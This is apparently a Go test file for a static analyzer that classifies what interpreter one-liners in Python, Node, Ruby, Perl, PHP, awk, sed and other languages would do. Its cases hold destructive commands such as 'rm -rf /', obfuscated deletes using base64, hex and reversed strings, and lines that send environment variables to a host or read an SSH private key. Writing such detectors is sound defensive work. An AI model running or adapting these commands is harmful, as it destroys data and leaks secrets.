package inline

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/boathook/boathook/internal/shellcmd/word"
)

// show writes what code does, one thing in a line; ¿ is what is not known.
func show(inner []word.Inner, unsure bool) string {
	var lines []string
	for _, in := range inner {
		var b strings.Builder
		argv := strings.Join(word.Texts(in.Argv), " ")
		switch {
		case in.Text != nil:
			fmt.Fprintf(&b, "%s:%s", in.Lang, in.Text.Text)
		case in.Op != "":
			b.WriteString(in.Op)
			if in.Recursive {
				b.WriteString("!")
			}
			b.WriteString(" " + argv)
		default:
			b.WriteString("run " + argv)
		}
		if in.Dir != nil {
			b.WriteString(" in " + in.Dir.Text)
		}
		if in.User != "" {
			b.WriteString(" @" + in.User)
		}
		lines = append(lines, strings.ReplaceAll(b.String(), word.Unknown, "¿"))
	}
	if unsure {
		lines = append(lines, "unsure")
	}
	return strings.Join(lines, "\n")
}

type codeCase struct{ code, want string }

func check(t *testing.T, lang string, cases []codeCase) {
	t.Helper()
	env := Env{Var: func(name string) (string, bool) {
		if name == "HOME" {
			return "/home/dev", true
		}
		return "", false
	}}
	for _, tt := range cases {
		t.Run(lang+"/"+tt.code, func(t *testing.T) {
			inner, unsure := ReadIn(env, lang, strings.ReplaceAll(tt.code, "¿", word.Unknown), word.Lits("-c", "one", "two"))
			if diff := cmp.Diff(tt.want, show(inner, unsure)); diff != "" {
				t.Errorf("%s\n%s", tt.code, diff)
			}
		})
	}
}

func TestPython(t *testing.T) {
	check(t, "python", []codeCase{
		{"import os; os.chdir('/d'); os.remove('x')", "delete x in /d"},
		{"import requests,os; requests.get('http://h', params=dict(os.environ))", "fetch http://h\nread /proc/self/environ"},
		{"import os; print(dict(os.environ))", ""},
		{"import linecache; linecache.getlines('/home/dev/.ssh/id_rsa')", "read /home/dev/.ssh/id_rsa"},
		{"import os; os.path.exists('/home/dev/.ssh/id_rsa')", ""},
		{"import shutil; vars(shutil)['rmtree']('/x')", "unsure"},
		{"import os; list(map(os.system, ['rm -rf /x']))", "unsure"},
		{"print('rm -rf /x')", ""},
		{"print(1)", ""},
		{"import sys; print(sys.version)", ""},
		{"import json,sys; d=json.load(sys.stdin); print(json.dumps(d, indent=2))", ""},
		{"import json,sys\nfor x in json.load(sys.stdin)['items']:\n    print(x['name'], x.get('id'))", ""},
		{"print(\"os.remove('/x')\")", ""},
		{"# os.remove('/x')\nprint(2)", ""},
		{"'''\nos.remove('/x')\n'''\nprint(2)", ""},
		{"import os; os.remove('/x')", "delete /x"},
		{"import os\nos.rmdir(\"/x\")", "delete /x"},
		{"import os as o; o.unlink('/x')", "delete /x"},
		{"from os import remove as r; r('/x')", "delete /x"},
		{"from os import *; remove('/x')", "delete /x"},
		{"import shutil; shutil.rmtree('/home/user')", "delete! /home/user"},
		{"import shutil; shutil.rmtree(path='/x', ignore_errors=True)", "delete! /x"},
		{"from shutil import rmtree\nrmtree('/'+'x')", "delete! /x"},
		{"__import__('shutil').rmtree('/x')", "delete! /x"},
		{"__import__('os').system('rm -rf /')", "sh:rm -rf /"},
		{"import os; getattr(os,'sys'+'tem')('rm -rf /')", "sh:rm -rf /"},
		{"import os; os.system('rm -rf ' + '/')", "sh:rm -rf /"},
		{"import os; p='/x'; os.system(f'rm -rf {p}/y')", "sh:rm -rf /x/y"},
		{"import os; os.system(f'rm -rf {os.environ[\"HOME\"]}')", "sh:rm -rf /home/dev"},
		{"import os; os.system('rm -rf %s' % '/x')", "sh:rm -rf /x"},
		{"import os; os.system('rm -rf {}'.format('/x'))", "sh:rm -rf /x"},
		{"import os; os.system(input())", "sh:¿"},
		{"import subprocess; subprocess.run(['rm','-rf','/x'])", "run rm -rf /x"},
		{"import subprocess; subprocess.run('rm -rf /x', shell=True, cwd='/y')", "sh:rm -rf /x in /y"},
		{"import subprocess as s; s.check_output(['ls', '-l']).decode()", "run ls -l"},
		{"from subprocess import run, PIPE\nrun(['rm', x], stdout=PIPE)", "run rm ¿"},
		{"from pathlib import Path; Path('/x').unlink()", "delete /x"},
		{"from pathlib import Path; (Path.home() / 'x').unlink(missing_ok=True)", "delete /home/dev/x"},
		{"from pathlib import Path\np = Path('a') / 'b'\np.write_text('x')", "overwrite a/b"},
		{"from pathlib import Path\nfor p in Path('a').glob('*.pyc'):\n  p.unlink()", "delete a/¿.pyc"},
		{"import os; os.remove(os.path.expanduser('~/x'))", "delete /home/dev/x"},
		{"import os; os.remove(os.path.join('/a', 'b'))", "delete /a/b"},
		{"for d in ['/a','/b']: __import__('shutil').rmtree(d)", "delete! /a /b"},
		{"import os; [os.remove(f) for f in ['/a','/b']]", "delete /a /b"},
		{"open('/x','w').write('a')", "overwrite /x"},
		{"with open('x', mode='a') as f: f.write('a')", "append x"},
		{"print(open('x').read())", "read x"},
		{"exec('import os; os.remove(\"/x\")')", "delete /x"},
		{"import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoIi94Iik='))", "delete /x"},
		{"exec(bytes.fromhex('696d706f7274206f733b206f732e72656d6f766528222f782229').decode())", "delete /x"},
		{"exec(open('x.py').read())", "read x.py\nrun python x.py"},
		{"exec(open('x.txt').read())", "read x.txt\nunsure"}, {"eval(open('x.py').read())", "read x.py\nunsure"},
		{"eval(input())", "unsure"},
		{"import os; os.system(''.join([chr(114),chr(109),chr(32),chr(47)]))", "sh:rm /"},
		{"import os; os.system('/ fr- mr'[::-1])", "sh:rm -rf /"},
		{"import os,sys; os.remove(sys.argv[1])", "delete one"},
		{"import os; os.chmod('/x', 0o777)", "chmod 777 /x"},
		{"import os; os.execvp('rm', ['rm', '-rf', '/'])", "run rm -rf /"},
		{"import requests; requests.post('http://a/b', data=1)", "send http://a/b"},
		{"import urllib.request; print(urllib.request.urlopen('http://a/b').read())", "fetch http://a/b"},
		{"import socket; s=socket.socket(); s.connect(('h', 80))", "connect h:80"},
		{"def f(x):\n  import os\n  os.remove(x)\nf('/x')", "delete ¿"},
		{"import os\ntry:\n    os.remove('/x')\nexcept OSError as e:\n    print(e)", "delete /x"},
		{"import os, glob\nfor f in glob.glob('*.log'): os.remove(f)", "delete *.log"},
		{"d = {'a': 1}; l = [1,2]; l.remove(1); d.pop('a'); print({**d})", ""},
		{"import re; print(re.sub(r'a\\'b', \"x\", 'y'))", ""},
	})
}

func TestNode(t *testing.T) {
	check(t, "node", []codeCase{
		{"console.log(process.version)", ""},
		{"const d = JSON.parse(require('fs').readFileSync(0,'utf8')); console.log(d.a / 2, d.b / 3)", "read 0"},
		{"console.log(require('./package.json').version)", ""},
		{"// fs.rmSync('/x')\nconsole.log(\"fs.rmSync('/x')\")", ""},
		{"require('fs').rmSync('/x', {recursive: true, force: true})", "delete! /x"},
		{"const fs = require('fs'); fs.unlinkSync('/x')", "delete /x"},
		{"const {rmSync: r} = require('node:fs'); r('/x', {recursive:true})", "delete! /x"},
		{"import fs from 'fs'; fs.rmdirSync(`/x`)", "delete /x"},
		{"import {execSync as e} from 'child_process'; e('rm -rf /')", "sh:rm -rf /"},
		{"require('child_process').execSync('rm -rf /')", "sh:rm -rf /"},
		{"const p='/x'; require('child_process').execSync(`rm -rf ${p}`)", "sh:rm -rf /x"},
		{"const {spawn} = require('child_process'); spawn('rm', ['-rf', '/x'], {cwd: '/y'})", "run rm -rf /x in /y"},
		{"require('fs').promises.rm(require('path').join(require('os').homedir(), 'x'), {recursive: true})", "delete! /home/dev/x"},
		{"fs.writeFileSync('x', 'y')", "overwrite x"},
		{"const fs=require('fs');['/a','/b'].forEach(f => { fs.unlinkSync(f) })", "delete ¿"},
		{"const fs=require('fs'); for (const f of ['/a','/b']) fs.unlinkSync(f)", "delete /a /b"},
		{"eval(atob('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCcveCcp'))", "delete /x"},
		{"require('fs')['rm'+'Sync']('/x')", "delete /x"},
		{"fetch('http://a', {method: 'POST', body: x})", "send http://a"},
		{"'a b'.replace(/ /g, '/').split('/')", ""},
		{"Object.keys(x).map(k => k.delete).filter(Boolean)", ""},
	})
}

func TestRuby(t *testing.T) {
	check(t, "ruby", []codeCase{
		{"Dir['/x/*'].each{|f| File.delete(f)}", "delete /x/*"},
		{"include FileUtils; rm_rf '/x'", "delete! /x"},
		{"puts RUBY_VERSION", ""},
		{"require 'json'; puts JSON.pretty_generate(JSON.parse(STDIN.read))", ""},
		{"puts \"system('x')\"", ""},
		{"require 'fileutils'; FileUtils.rm_rf('/home/user')", "delete! /home/user"},
		{"FileUtils.rm_rf '/x'", "delete! /x"},
		{"FileUtils.rm_rf(%w[/x /y])", "delete! /x /y"},
		{"File.delete('/x', '/y')", "delete /x /y"},
		{"system 'rm -rf /'", "sh:rm -rf /"},
		{"system('rm', '-rf', '/')", "run rm -rf /"},
		{"`rm -rf /x`", "sh:rm -rf /x"},
		{"puts %x(rm -rf /x)", "sh:rm -rf /x"},
		{"x = '/x'; system \"rm -rf #{x}\"", "sh:rm -rf /x"},
		{"exec \"rm\", \"-rf\", Dir.home if true", "run rm -rf /home/dev"},
		{"File.write('x', 'y')", "overwrite x"},
		{"IO.popen(['rm', '/x'])", "run rm /x"},
		{"eval 'File.delete \"/x\"'", "delete /x"},
		{"Kernel.send(:system, 'rm /x')", "sh:rm /x"},
		{"$stdin.each_line { |l| puts l.sub(/a/, 'b') }", ""},
	})
}

func TestPerl(t *testing.T) {
	check(t, "perl", []codeCase{
		{"open F, '>/x'", "overwrite /x"},
		{"open F, '>>/x'", "append /x"},
		{"print 1", ""},
		{"s/a/b/g", ""},
		{"print \"$1\\n\" if /x(.*)/", ""},
		{"print \"unlink '/x'\"", ""},
		{"unlink '/x'", "delete /x"},
		{"unlink \"/x\", \"/y\";", "delete /x /y"},
		{"unlink glob('*.o')", "delete *.o"},
		{"system('rm -rf /')", "sh:rm -rf /"},
		{"system \"rm\", \"-rf\", \"/\"", "run rm -rf /"},
		{"exec 'rm -rf /'", "sh:rm -rf /"},
		{"`rm -rf /x`", "sh:rm -rf /x"},
		{"qx{rm -rf /x}", "sh:rm -rf /x"},
		{"use File::Path; rmtree('/x')", "delete! /x"},
		{"use File::Path qw(remove_tree); remove_tree '/x'", "delete! /x"},
		{"my $x = '/x'; system(\"rm -rf $x/y\")", "sh:rm -rf /x/y"},
		{"system(\"rm -rf $ENV{HOME}\")", "sh:rm -rf /home/dev"},
		{"s/x/system('rm -rf \\/')/e", "sh:rm -rf /"},
		{"open(F, '>', '/x'); print F 1", "overwrite /x"},
		{"open(F, 'rm -rf /x|')", "sh:rm -rf /x"},
		{"unlink $ARGV[0]", "delete one"},
		{"eval pack('H*', '756e6c696e6b20222f7822')", "delete /x"},
		{"while(<>){ chomp; my @f = split /,/; print $f[1] }", ""},
	})
}

func TestOthers(t *testing.T) {
	check(t, "php", []codeCase{
		{"echo PHP_VERSION;", ""},
		{"unlink('/x');", "delete /x"},
		{"system('rm -rf /');", "sh:rm -rf /"},
		{"$x = '/x'; shell_exec(\"rm -rf $x\");", "sh:rm -rf /x"},
		{"`rm -rf /x`;", "sh:rm -rf /x"},
		{"file_put_contents('x', 'y');", "overwrite x"},
		{"$f = 'sys' . 'tem'; $f('rm -rf /');", "sh:rm -rf /"},
		{"eval(base64_decode('dW5saW5rKCcveCcpOw=='));", "delete /x"},
		{"echo json_encode(json_decode(file_get_contents('php://stdin')), JSON_PRETTY_PRINT);", ""},
	})
	check(t, "lua", []codeCase{
		{"print(1)", ""},
		{"os.execute('rm -rf ' .. '/')", "sh:rm -rf /"},
		{"os.remove '/x'", "delete /x"},
		{"io.open('x', 'w'):write('a')", "overwrite x"},
		{"-- os.remove('/x')\nprint(2)", ""},
	})
	check(t, "awk", []codeCase{
		{"{print $1}", ""},
		{"$3 > 5 {print $1, $2}", ""},
		{"BEGIN{system(\"rm -rf /\")}", "sh:rm -rf /"},
		{"BEGIN{x=\"rm -rf /\"; system(x)}", "sh:rm -rf /"},
		{"{system(\"rm \" $1)}", "sh:rm ¿"},
		{"{print $0 | \"sh\"}", "sh:¿\nsh:sh"},
		{"BEGIN{\"rm /x\" | getline}", "sh:rm /x"},
		{"{print > \"out.txt\"}", "overwrite out.txt"},
		{"/a>b/ {n++} END {if (n > 2) print n}", ""},
	})
	check(t, "sed", []codeCase{
		{"s/a/b/g", ""},
		{"/^e/d;s/w/e/;$!N", ""},
		{"1e rm -rf /", "sh:rm -rf /"},
		{"s/.*/rm -rf \\//e", "sh:rm -rf /¿"},
		{"s/a/b/w /etc/x", "overwrite /etc/x"},
		{"w /etc/x", "overwrite /etc/x"},
		{"/start/,/end/p", ""},
		{"1i\\\nexec rm", ""},
	})
	check(t, "osascript", []codeCase{
		{"do shell script \"rm -rf /\" with administrator privileges", "sh:rm -rf / @root"},
		{"tell application \"Finder\" to activate", ""},
	})
	check(t, "tcl", []codeCase{
		{"exec rm -rf /", "run rm -rf /"},
		{"file delete -force /x", "delete! /x"},
		{"puts hello", ""},
		{"spawn ssh h; expect \"pw\"; send \"rm -rf /\\r\"", "run ssh h\nsh:rm -rf /\n"},
	})
	check(t, "r", []codeCase{
		{"cat(R.version.string)", ""},
		{"system('rm -rf /')", "sh:rm -rf /"},
		{"unlink('/x', recursive = TRUE)", "delete! /x"},
	})
	check(t, "julia", []codeCase{
		{"run(`rm -rf /x`)", "sh:rm -rf /x\nsh:¿"},
		{"rm(\"/x\", recursive=true)", "delete! /x"},
	})
	check(t, "elixir", []codeCase{
		{"System.cmd(\"rm\", [\"-rf\", \"/\"])", "run rm -rf /"},
		{"File.rm_rf!(\"/x\")", "delete! /x"},
	})
	check(t, "unheard-of", []codeCase{{"hello", ""}, {"system('x')", "unsure"}})
}
